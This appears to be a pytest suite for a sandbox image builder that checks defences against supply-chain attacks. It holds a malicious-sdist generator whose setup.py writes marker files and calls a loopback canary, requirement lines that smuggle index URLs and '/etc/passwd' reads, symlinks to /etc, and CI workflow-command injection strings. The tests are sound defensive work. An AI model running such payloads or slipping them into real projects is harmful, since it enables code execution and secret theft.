"""Stack images: a real build of a tiny project, the cache, faults, and the attacks on it.

The attacks go through the real path (`ensure_image` on a real Docker engine): option
lines and URLs aimed at a loopback canary server that must never be asked, an sdist-only
dependency whose setup.py would leave a marker and call the canary, symlinks out of the
repository, and build output that tries to inject workflow commands into a CI log.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from karma.config import KarmaConfig
from karma.errors import ExitCode
from karma.home import builtin_dir
from karma.sandbox import spec_from_config
from karma.sandbox.docker import DockerBackend
from karma.sandbox.images import _digest, ensure_image, read_inputs
from karma.sandbox.interface import ImageBuildError, ImageMissing


def project(root: Path, requirement: str) -> Path:
    root.mkdir()
    (root / "requirements.txt").write_text(f"{requirement}\n")
    (root / "test_it.py").write_text("import six\n\ndef test_six():\n    assert six.PY3\n")
    return root


@pytest.mark.docker
def test_builds_a_stack_image_with_the_dependencies_then_reuses_it(
    docker_engine: str, tmp_path: Path
) -> None:
    config = KarmaConfig(sandbox={"base_image": docker_engine})
    repo = project(tmp_path / "tiny", "six==1.16.0")
    tag = ensure_image("python", repo, config)
    assert tag.startswith("karma/stack-python:")
    built: list[str] = []
    assert ensure_image("python", repo, config, log=built.append) == tag
    assert built == []  # a cache hit: nothing was built

    backend = DockerBackend()
    box = backend.start(
        spec_from_config(config, image=tag, workspace=repo, run_id="test-image", task_id="t1")
    )
    try:
        result = box.exec(
            "python -c 'import six; print(six.__version__)' && "
            "python -m pytest -q -p no:cacheprovider",
            timeout_s=120,
        )
    finally:
        box.close()
    assert result.ok, result.output
    assert result.output.startswith("1.16.0\n")
    assert "1 passed" in result.output


def test_changed_dependencies_or_mode_change_the_tag(tmp_path: Path) -> None:
    repo = project(tmp_path / "p", "six==1.16.0")
    first = _digest("base", "id", read_inputs("python", repo), False)
    assert _digest("base", "id", read_inputs("python", repo), True) != first
    (repo / "requirements.txt").write_text("six==1.15.0\n")
    assert _digest("base", "id", read_inputs("python", repo), False) != first


@pytest.mark.docker
def test_a_failed_build_says_why(docker_engine: str, tmp_path: Path) -> None:
    config = KarmaConfig(sandbox={"base_image": docker_engine})
    repo = project(tmp_path / "broken", "karma-no-such-package-anywhere==1.0")
    with pytest.raises(ImageBuildError) as caught:
        ensure_image("python", repo, config)
    assert "karma-no-such-package-anywhere" in str(caught.value)  # the build log's tail


@pytest.mark.docker
def test_a_missing_base_image_says_how_to_fix(tmp_path: Path) -> None:
    config = KarmaConfig(sandbox={"base_image": "karma/no-such-base:nope"})
    with pytest.raises(ImageMissing) as caught:
        ensure_image("python", project(tmp_path / "p", "six"), config)
    assert caught.value.exit_code == ExitCode.ENVIRONMENT
    assert caught.value.tip is not None and "KARMA_BASE_IMAGE" in caught.value.tip


# -- the attacks --------------------------------------------------------------------------


class Canary:
    """A loopback HTTP server: a PEP 503 index of what is in `root`, and a log of every path
    asked for (the download container shares the host's network, so it can reach it)."""

    def __init__(self, root: Path) -> None:
        import functools
        import threading
        from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

        self.asked: list[str] = []
        asked = self.asked

        class Handler(SimpleHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                asked.append(self.path)

        self.server = ThreadingHTTPServer(
            ("127.0.0.1", 0), functools.partial(Handler, directory=str(root))
        )
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def canary(tmp_path: Path) -> Iterator[Canary]:
    root = tmp_path / "served"
    root.mkdir()
    server = Canary(root)
    yield server
    server.close()


def evil_sdist(
    served: Path,
    canary_url: str,
    name: str = "karma-evil-sdist",
    marks: str = "/karma/wheels/PWNED",
) -> None:
    """An sdist-only package on the canary's index whose setup.py marks and phones home."""
    import io
    import tarfile

    setup = (
        "import pathlib, urllib.request\n"
        f"for p in ('{marks}', '/tmp/PWNED'):\n"
        "    try: pathlib.Path(p).write_text('pwned')\n"
        "    except OSError: pass\n"
        "try:\n"
        f"    urllib.request.urlopen('{canary_url}/setup-py-ran', timeout=5)\n"
        "except OSError: pass\n"
        "from setuptools import setup\n"
        f"setup(name='{name}', version='1.0', py_modules=[])\n"
    )
    folder = f"{name}-1.0"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for member, text in (
            ("setup.py", setup),
            ("PKG-INFO", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"),
        ):
            data = text.encode()
            info = tarfile.TarInfo(f"{folder}/{member}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    (served / "files").mkdir(exist_ok=True)
    (served / "files" / f"{folder}.tar.gz").write_bytes(buffer.getvalue())
    index = served / "simple" / name
    index.mkdir(parents=True)
    (index / "index.html").write_text(
        f'<html><body><a href="../../files/{folder}.tar.gz">{folder}.tar.gz</a></body></html>'
    )


def remove_image(tag: str) -> None:
    import docker

    client = docker.from_env()
    client.images.remove(tag, force=True)
    client.close()


@pytest.mark.docker
def test_repository_options_and_urls_never_reach_pip(
    docker_engine: str, tmp_path: Path, canary: Canary
) -> None:
    url = canary.url
    lines = [
        f"--extra-index-url {url}/extra/",
        f"-i {url}/index/",
        f"--index-url={url}/index2/",
        f"-f {url}/links/",
        f"--find-links={url}/links2/",
        "--trusted-host 127.0.0.1",
        f"evil @ {url}/direct/evil-1.0-py3-none-any.whl",
        f"git+{url}/vcs/evil.git#egg=evil",
        f"{url}/bare/evil-1.0.tar.gz",
        "-e .",
        "-r ../../etc/passwd",
        "-c /etc/passwd",
        "six==1.16.0",
    ]
    repo = project(tmp_path / "p", "\n".join(lines))
    (repo / "requirements-dev.txt").write_text(f"-r requirements.txt\nevil @ {url}/dev/e.whl\n")
    logged: list[str] = []
    config = KarmaConfig(sandbox={"base_image": docker_engine})
    tag = ensure_image("python", repo, config, log=logged.append, environ={})
    try:
        assert canary.asked == []  # no option, URL or VCS line of the repository was followed
        dropped = [line for line in logged if ": dropped `" in line]
        assert len(dropped) == len(lines) - 1 + 2, logged
        assert any("-r ../../etc/passwd" in line and "option line" in line for line in dropped)
        box = DockerBackend().start(
            spec_from_config(config, image=tag, workspace=repo, run_id="test-image", task_id="t1")
        )
        try:
            shown = box.exec(
                "cat /opt/karma/requirements.in; echo ---; cat /opt/karma/dropped.txt;"
                "python -c 'import six; print(six.__version__)'",
                timeout_s=60,
            )
        finally:
            box.close()
        wanted, _, rest = shown.output.partition("---")
        assert wanted.split() == ["pytest", "six==1.16.0"]
        assert "requirements.txt:1: dropped" in rest and rest.rstrip().endswith("1.16.0")
    finally:
        remove_image(tag)


@pytest.mark.docker
def test_an_sdist_only_dependency_fails_the_build_and_its_setup_py_never_runs(
    docker_engine: str, tmp_path: Path, canary: Canary
) -> None:
    served = Path(canary.server.RequestHandlerClass.keywords["directory"])  # type: ignore[attr-defined]
    evil_sdist(served, canary.url)
    repo = project(tmp_path / "p", "six==1.16.0\nkarma-evil-sdist")
    config = KarmaConfig(sandbox={"base_image": docker_engine})
    with pytest.raises(ImageBuildError) as caught:
        ensure_image(
            "python", repo, config, environ={"PIP_EXTRA_INDEX_URL": f"{canary.url}/simple/"}
        )
    assert "no wheel of karma-evil-sdist" in str(caught.value)
    assert caught.value.tip is not None and "sandbox.allow_sdists" in caught.value.tip
    assert "/simple/karma-evil-sdist/" in canary.asked  # the user's index was asked...
    assert "/setup-py-ran" not in canary.asked  # ...but the sdist's code never ran
    assert not any(path.endswith(".tar.gz") for path in canary.asked)  # nor was it fetched
    assert not list(tmp_path.rglob("PWNED"))


@pytest.mark.docker
def test_allow_sdists_builds_them_in_the_download_container_only(
    docker_engine: str, tmp_path: Path, canary: Canary
) -> None:
    served = Path(canary.server.RequestHandlerClass.keywords["directory"])  # type: ignore[attr-defined]
    evil_sdist(served, canary.url)
    evil_sdist(served, canary.url, name="karma-plain-sdist", marks="/tmp/ALSO")
    config = KarmaConfig(sandbox={"base_image": docker_engine, "allow_sdists": True})
    environ = {"PIP_EXTRA_INDEX_URL": f"{canary.url}/simple/"}
    repo = project(tmp_path / "p", "six==1.16.0\nkarma-evil-sdist")
    with pytest.raises(ImageBuildError, match="'PWNED', not a wheel"):
        ensure_image("python", repo, config, environ=environ)  # what it left is refused
    assert "/setup-py-ran" in canary.asked  # the accepted risk: it ran, with the network
    repo = project(tmp_path / "q", "six==1.16.0\nkarma-plain-sdist")
    tag = ensure_image("python", repo, config, environ=environ)
    try:
        assert not list(tmp_path.rglob("PWNED")) and not list(tmp_path.rglob("ALSO"))
        box = DockerBackend().start(
            spec_from_config(config, image=tag, workspace=repo, run_id="test-image", task_id="t")
        )
        try:
            result = box.exec("pip list 2>/dev/null | grep -i karma-plain-sdist", timeout_s=60)
        finally:
            box.close()
        assert result.ok, result.output
    finally:
        remove_image(tag)


def test_a_symlinked_dependency_file_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "host-secret.txt"
    secret.write_text("six==1.16.0\n")
    for name in ("requirements.txt", "requirements-dev.txt", "pyproject.toml"):
        repo = tmp_path / name
        repo.mkdir()
        (repo / name).symlink_to(secret)
        with pytest.raises(ImageBuildError, match="symlink"):
            read_inputs("python", repo)


def test_a_symlink_in_a_recipe_folder_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    home = tmp_path / "home"
    recipe = home / "sandboxes" / "python"
    shutil.copytree(builtin_dir("sandboxes") / "python", recipe)
    (recipe / "passwd").symlink_to("/etc/passwd")
    monkeypatch.setenv("KARMA_HOME", str(home))
    repo = project(tmp_path / "p", "six")
    with pytest.raises(ImageBuildError, match="passwd is a symlink"):
        read_inputs("python", repo)
    (recipe / "passwd").unlink()
    (recipe / "sub").mkdir()
    (recipe / "sub" / "etc").symlink_to("/etc", target_is_directory=True)
    with pytest.raises(ImageBuildError, match="is a symlink"):
        read_inputs("python", repo)
    shutil.rmtree(recipe / "sub")
    assert dict(read_inputs("python", repo).recipe).keys() == {"Dockerfile"}


def test_a_repository_recipe_reached_through_a_symlink_is_refused(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere" / "sandboxes" / "python"
    elsewhere.mkdir(parents=True)
    (elsewhere / "Dockerfile").write_text("FROM scratch\n")
    repo = project(tmp_path / "p", "six")
    (repo / ".karma").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(ImageBuildError, match="symlink"):
        read_inputs("python", repo)
    (repo / ".karma").unlink()
    (repo / ".karma" / "sandboxes").mkdir(parents=True)
    (repo / ".karma" / "sandboxes" / "python").symlink_to(elsewhere, target_is_directory=True)
    with pytest.raises(ImageBuildError, match="symlink"):
        read_inputs("python", repo)


INJECTION = (
    r"printf '::add-mask::oops\n::set-output name=x::y\n\033[31m##[error]red\n"
    r"::warning file=a::pwn\n\033]0;title\007::error::t\n'"
)


@pytest.mark.docker
def test_build_output_cannot_inject_workflow_commands(
    docker_engine: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    recipe = home / "sandboxes" / "python"
    recipe.mkdir(parents=True)
    (recipe / "Dockerfile").write_text(
        f"ARG BASE_IMAGE\nFROM ${{BASE_IMAGE}}\nRUN {INJECTION}\nRUN {INJECTION} && false\n"
    )
    monkeypatch.setenv("KARMA_HOME", str(home))
    repo = project(tmp_path / "p", "six==1.16.0")
    logged: list[str] = []
    with pytest.raises(ImageBuildError) as caught:
        ensure_image(
            "python",
            repo,
            KarmaConfig(sandbox={"base_image": docker_engine}),
            log=logged.append,
            environ={},
        )
    shown = [*logged, *str(caught.value).splitlines()]
    assert any("add-mask" in line for line in shown)  # the lines are there...
    for line in shown:  # ...inert
        assert "::" not in line and "##[" not in line and "\x1b" not in line and "\x07" not in line


def test_pip_output_is_made_inert_line_by_line() -> None:
    from karma.sandbox.wheelhouse import follow

    logged: list[str] = []
    chunks = [
        b"Collecting six\n::add-",
        b"mask::x\n\x1b[1m::set-output name=a::b\x1b[0m\n",
        b"::err",
    ]
    tail = follow(iter(chunks), logged.append)
    assert tail == logged and len(logged) == 4
    assert all("::" not in line and "\x1b" not in line for line in logged)


@pytest.mark.docker
def test_a_download_past_the_size_limit_is_stopped(docker_engine: str, tmp_path: Path) -> None:
    from karma.sandbox.docker import DockerBackend
    from karma.sandbox.wheelhouse import download

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "requirements.txt").write_text("pytest\nrequests\n")
    api = DockerBackend().client.api
    with pytest.raises(ImageBuildError, match="stopped: the wheels passed"):
        download(
            api,
            docker_engine,
            tmp_path,
            user="65534:65534",
            memory_mb=512,
            allow_sdists=False,
            environ={},
            log=lambda line: None,
            limit=1,
        )
